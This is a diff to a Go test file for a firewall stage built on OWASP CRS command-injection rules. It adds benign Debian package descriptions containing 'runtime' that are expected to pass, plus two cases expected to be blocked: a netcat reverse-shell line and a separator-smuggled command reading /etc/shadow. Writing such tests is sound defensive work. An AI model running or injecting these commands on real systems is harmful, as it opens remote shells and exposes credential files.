@@ -95,15 +95,22 @@ func TestFieldLines(t *testing.T) {
 	})
 }
 
-// TestCommandInsideWord: CRS 932340 finds a command anywhere, also inside
-// a word ("runtime" holds time, "kdesu" ends in su: 3 of 20,000 Debian
-// package descriptions were refused for it); a command after a separator
-// a shell reads is still refused.
+// TestCommandInsideWord: CRS 932340, 932230 and 932250 find a command
+// anywhere, also inside a word ("runtime" holds time, "kdesu" ends in su:
+// 11 of 20,000 Debian package descriptions were refused for it); a command
+// after a separator a shell reads is still refused.
 func TestCommandInsideWord(t *testing.T) {
 	checkBlocks(t, sharedStage(t), []string{"query", "json"}, []blockCase{
 		{"runtime files for kdesu", false},
 		{"HDF5 - Runtime tools", false},
 		{"Erlang/OTP runtime tracing/debugging tools", false},
+		// 932230 and 932250 read "time" in "runtime" as the command too.
+		{"C++ runtime polymorphism based on concepts", false},
+		{"runtime Haskell interpreter (GHC API wrapper); documentation", false},
+		{"runtime library for PDF transformation/inspection software", false},
+		{"GnuPG development runtime library (executable tools)", false},
+		{"a;time nc -e /bin/sh 10.0.0.1 4444", true},
+		{"C++ runtime; time cat /etc/shadow", true},
 		{";ps", true},
 		{"&aptitude", true},
 		{"x;ps", true},
